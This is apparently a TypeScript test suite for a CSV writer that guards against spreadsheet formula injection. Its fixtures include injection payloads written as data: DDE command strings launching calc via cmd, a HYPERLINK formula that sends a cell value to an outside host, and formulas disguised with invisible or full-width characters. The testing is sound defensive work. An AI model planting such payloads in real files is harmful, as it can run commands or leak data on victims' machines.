import { csv, csvCell } from './csv.ts';
import { effortOf } from '../__fixtures__/effort.ts';

/** A line of one cell as RFC 4180 reads it. */
function read(cell: string): string {
  const quoted = /^"((?:[^"]|"")*)"$/.exec(cell);
  if (quoted) return quoted[1]!.replaceAll('""', '"');
  if (/[",\r\n]/.test(cell)) throw new Error(`Not one cell: ${cell}`);
  return cell;
}

test('commas, quotes and line breaks stay inside their cell', () => {
  expect(csv(['a', 'b'], [['x,y', 'say "hi"\nthere']])).toBe('\ufeffa,b\r\n"x,y","say ""hi""\nthere"\r\n');
});

test('numbers, dates and nothing', () => {
  expect([-5, true, null, undefined, new Date(0)].map(csvCell)).toEqual([
    '-5',
    'true',
    '',
    '',
    '1970-01-01T00:00:00.000Z',
  ]);
});

const run = [
  ...['=1+1', '=', '@SUM(A1)', '@robin', '+1+1', '-1+2', '+A1', '-none', '+SUM(1)', '-SUM (1)', '- SUM(1)', '--A1'],
  ...["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "- 1 cmd|' /C calc'!A0", '+[book]a!A1'],
  ...['\t=1', ' =1', '\u00a0=1', '\u3000=1', '\u200b=1', '\ufeff=1', '\x00=1', '"=1', "'=1"],
  ...['＝1', '＋1', '－1', '＠SUM(1)', '﹦1', ' ＝1', '\t+A1', '\u202d=1', '=HYPERLINK("https://a.example?"&A1)'],
];

test.each(run)('%j is run by a spreadsheet: an apostrophe stands before it', (text) => {
  expect(read(csvCell(text))).toBe(`'${text}`);
});

test.each([
  ['a;=1+1;b', "a;'=1+1;b"],
  ['a; @SUM(1)', "a;' @SUM(1)"],
  ['first\n=1+1', "first\n'=1+1"],
  ['\r=1', "'\r'=1"],
  ['\r\n=1', "'\r\n'=1"],
  ['=1;=2', "'=1;'=2"],
])('%j holds another cell, for those whose lists are written with semicolons', (text, expected) => {
  expect(read(csvCell(text))).toBe(expected);
});

const harmless = [
  ...['+1 613 555-0100', '+33 1 23', '+1-613-555-0100', '+16135550100', '+1 (613) 555-0100', '+49 (0)30 / 12 34'],
  ...['+1 613 555-0100 ext. 5', '+1 514 555-0100 poste 12', '\u202a+1 613 555-0100\u202c', '613-555-0100', ' +33 1 23'],
  ...['-5', '+5', '-1.5e3', '-1,5', '-12 %', '- 5', '−5', '−', '-', '--', '---', '- none', '- C++ (5 years)'],
  ...[
    '- first\n- second',
    'a=b',
    'robin@example.org',
    'x - y',
    '1+1',
    'Anne-Marie',
    "O'Brien",
    '\tindented',
    '"quoted"',
  ],
];

test.each(harmless)('%j is run by no spreadsheet and stays as it is', (text) => {
  expect(read(csvCell(text))).toBe(text);
});

/** Steady numbers from a seed, so that a failure comes again. */
function* random(seed: number): Generator<number, never> {
  for (let state = seed; ;) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    yield state / 2 ** 32;
  }
}

test('whatever the text, it is read again as it was, but for apostrophes before what would run', () => {
  const numbers = random(7);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(numbers.next().value * from.length)]!;
  const parts = [
    ...'=+-@＝＋－＠;,"\'\t\r\n |!()[]1A0é\u200b\ufeff\u3000',
    ' SUM(',
    'cmd|',
    '555-0100',
    ' none',
    '=1',
    '+33 1',
  ];
  const seen = (piece: string) => piece.replace(/^[\s\p{C}'"`]+/u, '');
  const wrong: string[] = [];
  for (let turn = 0; turn < 20_000; turn++) {
    const text = Array.from({ length: 1 + Math.floor(numbers.next().value * 8) }, () => pick(parts)).join('');
    const cell = read(csvCell(text));
    // Apostrophes that were added, each before a formula.
    let at = 0;
    for (const letter of cell) {
      if (text.startsWith(letter, at)) at += letter.length;
      else if (letter !== "'" || !/^[=+\-@＝＋－＠]/.test(seen(text.slice(at)))) wrong.push(text);
    }
    const runs = /^[\s\p{C}]*(?:[=@＝＠＋－]|[+-].*(?:[a-z]\s*\(|[|!=]))/iu;
    if (at !== text.length || cell.split(/[;\r\n]+/).some((piece) => runs.test(piece))) wrong.push(text);
  }
  expect(wrong).toEqual([]);
});

test.each(['+' + ' '.repeat(100_000), '- ' + 'a'.repeat(100_000), '- ' + 'a '.repeat(50_000), '\n'.repeat(100_000)])(
  'a cell of a hundred thousand characters is looked at in no time',
  (text) => {
    const effort = effortOf(() => void csvCell(`${text}x`));
    expect(effort).toBeLessThan(2);
  },
);
